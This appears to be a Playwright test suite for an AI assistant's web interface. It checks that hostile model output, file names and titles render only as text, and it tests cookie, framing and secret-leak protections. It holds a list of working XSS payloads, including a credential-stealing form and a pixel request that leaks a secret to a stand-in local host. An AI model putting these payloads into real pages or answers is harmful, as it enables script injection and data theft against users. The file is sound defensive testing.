// What a model, a tool or a stranger writes stays text on the page, and the page speaks with its own assistant only.
import { mkdir, readFile, writeFile } from "node:fs/promises";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { expect, test } from "vitest";
import { openInBrowser } from "../../src/cli/commands/open.ts";
import { eventually } from "../scenes/eventually.ts";
import { startSteward } from "../scenes/page/page-scene.ts";
import { ask, composer, openPageStage, said } from "../scenes/page/page-stage.ts";
import { temporaryFolder } from "../scenes/temporary-folder.ts";

const attack = "globalThis.attacked = true";
const markup = `<img src=x onerror="${attack}"><b>bold</b>`;
const fileName = `<img src=x onerror=alert(1)>.txt`;
/** Another server of this machine, which would see a request that leaves the page. */
const elsewhere = "http://127.0.0.1:9";

const hostile = [
  `<script>${attack}</script>`,
  markup,
  `<svg onload="${attack}"><script>${attack}</script><use href="${elsewhere}/a.svg#x"></use></svg>`,
  `<iframe src="javascript:${attack}" srcdoc="<script>parent.attacked = true</script>"></iframe>`,
  `<object data="${elsewhere}/o"></object><embed src="${elsewhere}/e">`,
  `<form action="${elsewhere}/steal"><input name="password"><button>Sign in</button></form>`,
  `<style>* { display: none } @import "${elsewhere}/s.css";</style>`,
  `<link rel="stylesheet" href="${elsewhere}/l.css"><meta http-equiv="refresh" content="0;url=${elsewhere}"><base href="${elsewhere}">`,
  `<p style="position:fixed;inset:0;background:url(${elsewhere}/b.png)">over everything</p>`,
  `<a id="body" name="getElementById" href="javascript:${attack}">clobber</a><form name="body"><input id="attributes"></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${attack}"></style></mglyph></table></mtext></math>`,
  `<details open ontoggle="${attack}"><summary>more</summary></details><video><source onerror="${attack}"></video>`,
  `[a link](javascript:${attack}) and [data](data:text/html,<script>${attack}</script>) and [tricky](java&#115;cript:${attack})`,
  `![a picture](${elsewhere}/pixel.png?secret=sesame) and ![svg](data:image/svg+xml,<svg/onload=${attack}>)`,
  `\`\`\`html\n<script>${attack}</script>\n\`\`\``,
  `| a | b |\n| --- | --- |\n| <img src=x onerror="${attack}"> | [x](vbscript:${attack}) |`,
  `[good](https://example.org/page) <https://example.org/auto>`,
  "This is the last line.",
].join("\n\n");

const stage = openPageStage(() =>
  startSteward({
    settings: { agent: { model: "fake/fake-model", name: "<img src=x onerror=attacked=1>" } },
    scripts: {
      "Say something bad": [{ text: hostile, delayPerPieceMs: 2 }],
      "Read the strange file": [
        { toolCalls: [{ name: "list", arguments: { path: "." } }] },
        { toolCalls: [{ name: "read", arguments: { path: fileName } }] },
        { text: "I have read it." },
      ],
    },
    async furnish(home) {
      await mkdir(join(home, "workspace"), { recursive: true });
      await writeFile(join(home, "workspace", fileName), `${markup}\n<script>${attack}</script>\n`);
    },
  }),
);
const { visitor } = stage;

// every element that is really on the page, also in shadow roots, that a model must never be able to make
const findMade = `(() => {
  const bad = "script, iframe, object, embed, form, style, link, meta, base, svg, math, video, [style], [onload], [onerror], [ontoggle], [srcdoc], [name], [id]";
  const found = [];
  const look = (root) => {
    for (const one of root.querySelectorAll("*")) {
      if (one.localName === "steward-prose") found.push(...[...one.shadowRoot.querySelectorAll(bad)].map((made) => made.outerHTML.slice(0, 120)));
      else if (one.shadowRoot) look(one.shadowRoot);
    }
  };
  look(document);
  return found;
})()`;

const isAttacked = "globalThis.attacked !== undefined || document.body?.localName !== 'body'";

test("a hostile answer runs nothing, asks for nothing and makes nothing but text", async () => {
  const { page } = await visitor.visit(stage.assistant);
  await ask(page, "Say something bad");
  await said(page).getByText("This is the last line.").waitFor();
  await said(page).getByRole("button", { name: "Ask again" }).waitFor();
  expect(await page.evaluate(isAttacked)).toBe(false);
  expect((await page.evaluate<string[]>(findMade)).filter((made) => !isOwnPicture(made))).toEqual([]);
  const links = await said(page)
    .locator("steward-prose")
    .getByRole("link")
    .evaluateAll((all: { href: string; target: string; rel: string }[]) =>
      all.map(({ href, rel }) => `${href} ${rel}`),
    );
  expect(links.length).toBeGreaterThan(1);
  expect(links.filter((link) => !/^https?:.* noopener noreferrer$/.test(link))).toEqual([]);
  await page.reload();
  await said(page).getByText("This is the last line.").waitFor();
  expect(await page.evaluate(isAttacked)).toBe(false);
  await ask(page, "Still here?");
  await said(page).getByText("echo: Still here?").waitFor();
});

// the page's own buttons (copy this code) carry pictures, and those are in its own words
function isOwnPicture(made: string): boolean {
  return made.startsWith("<svg") && made.includes('aria-hidden="true"');
}

test("titles, file names, tool output and the assistant's name are shown as the text they are", async () => {
  const { page } = await visitor.visit(stage.assistant);
  await ask(page, "Read the strange file");
  await said(page).getByText("I have read it.").waitFor();
  await said(page).getByText("Read a file").click();
  const result = said(page).getByRole("group", { name: "Result" });
  await result.getByText(markup).waitFor();
  await said(page).getByText(fileName).first().waitFor();
  const sessionKey = new URL(page.url()).pathname.split("/")[2] ?? "";
  await stage.assistant.call("sessions.rename", { sessionKey, title: markup });
  await page.getByRole("heading", { level: 1 }).getByText(markup).waitFor();
  await page.getByRole("link", { name: markup }).waitFor();
  for (const path of ["/activity", "/usage", "/settings", "/tools"]) {
    await page.goto(`${stage.assistant.origin}${path}`);
    await page.getByRole("heading", { level: 1 }).waitFor();
    await page.getByRole("link", { name: markup }).first().waitFor();
  }
  await page.keyboard.press("Control+k");
  await page.getByRole("option", { name: markup }).waitFor();
  expect(await page.evaluate(isAttacked)).toBe(false);
});

test("a server named in the address is ignored", async () => {
  const { page } = await visitor.visit(stage.assistant);
  const sockets: string[] = [];
  page.on("websocket", (socket) => sockets.push(socket.url()));
  const address = encodeURIComponent("ws://127.0.0.1:9/ws");
  for (const place of [`?gateway=${address}&gatewayUrl=${address}&token=stolen`, `#gateway=${address}&token=stolen`]) {
    await page.goto(`${stage.assistant.origin}/chat${place}`);
    await page.reload();
    await composer(page).waitFor();
    await page.getByRole("link", { name: "Inbox" }).waitFor();
    await eventually(() => sockets.length > 0);
  }
  expect(new Set(sockets.map((url) => new URL(url).host))).toEqual(new Set([new URL(stage.assistant.origin).host]));
});

test("the file that the desktop's opener is given signs the browser in, and nothing shows the code", async () => {
  const folder = await temporaryFolder();
  const note = join(folder, "arguments");
  // as any other user of the machine sees it
  await writeFile(join(folder, "xdg-open"), `#!/bin/sh\ncat /proc/$$/cmdline > "${note}"\n`, { mode: 0o755 });
  const desktop = { platform: "linux", environment: { DISPLAY: ":0", PATH: `${folder}:/bin` }, folder };
  const link = await stage.assistant.link();
  expect(await openInBrowser(desktop, link)).toBe(true);
  const seen = await eventually(() => readFile(note, "utf8").catch(() => ""), expect.stringContaining(".html"));
  expect(seen).not.toContain(new URL(link).hash.slice("#code=".length));
  const { page, expectProblem } = await visitor.arrive(stage.assistant);
  expectProblem(/^request: file:/);
  await page.goto(`file://${seen.split("\0").find((word) => word.endsWith(".html"))}`);
  await page.getByRole("textbox", { name: "Message" }).waitFor();
  expect(page.url()).not.toContain("code");
});

test("the first answer holds no settings and no secrets, whoever asks", async () => {
  const code = new URL(await stage.assistant.link()).hash.slice("#code=".length);
  const answer = await fetch(`${stage.assistant.origin}/`, { headers: { accept: "text/html" } });
  const html = await answer.text();
  for (const secret of [code, stage.assistant.home, "fake-model", String(stage.assistant.model.port), "token"])
    expect(html).not.toContain(secret);
  expect(html).not.toMatch(/<script(?![^>]*\ssrc=)/);
});

test("a script of the page cannot read the cookie that lets it in", async () => {
  const { page, context } = await visitor.visit(stage.assistant);
  expect(await page.evaluate("document.cookie")).toBe("");
  const cookies = await context.cookies();
  expect(cookies.length).toBeGreaterThan(0);
  for (const cookie of cookies) expect(cookie).toMatchObject({ httpOnly: true, sameSite: "Strict" });
  const kept = await page.evaluate<string>("JSON.stringify({ ...localStorage, ...sessionStorage })");
  for (const { value } of cookies) expect(kept).not.toContain(value);
});

test("no other page can show it in a frame", async () => {
  const { headers } = await fetch(`${stage.assistant.origin}/`, { headers: { accept: "text/html" } });
  expect(headers.get("x-frame-options")).toBe("DENY");
  expect(headers.get("content-security-policy")).toContain("frame-ancestors 'none'");
  const other = createServer((_, response) =>
    response
      .setHeader("content-type", "text/html")
      .end(`<title>other</title><iframe src="${stage.assistant.origin}/"></iframe>`),
  ).listen(0, "127.0.0.1");
  await new Promise((resolve) => other.once("listening", resolve));
  const { page, expectProblem } = await visitor.visit(stage.assistant);
  expectProblem(/frame-ancestors|X-Frame-Options|chrome-error|^request: http:\/\/127\.0\.0\.1|favicon/);
  await page.goto(`http://127.0.0.1:${(other.address() as AddressInfo).port}/`);
  const [frame] = page.frames().filter((one) => one !== page.mainFrame());
  expect(frame?.url()).not.toContain(stage.assistant.origin);
  expect(await page.frameLocator("iframe").getByRole("textbox", { name: "Message" }).count()).toBe(0);
  other.close();
});

test("the first page takes at most 60 KB and ten requests", async () => {
  const { page } = await visitor.arrive(stage.assistant);
  const sizes: Promise<readonly [url: string, bytes: number]>[] = [];
  page.on("requestfinished", (request) => {
    sizes.push(request.sizes().then(({ responseBodySize }) => [new URL(request.url()).pathname, responseBodySize]));
  });
  let sockets = 0;
  page.on("websocket", () => {
    sockets += 1;
  });
  await page.goto(await stage.assistant.link());
  await composer(page).waitFor();
  await page.getByText("What you talk about with Steward").or(page.getByText("Today")).first().waitFor();
  await page.waitForLoadState("networkidle");
  const taken = await Promise.all(sizes);
  const kilobytes = taken.reduce((sum, [, bytes]) => sum + bytes, 0) / 1024;
  expect(kilobytes).toBeLessThanOrEqual(60);
  expect(taken.length + sockets).toBeLessThanOrEqual(10);
});
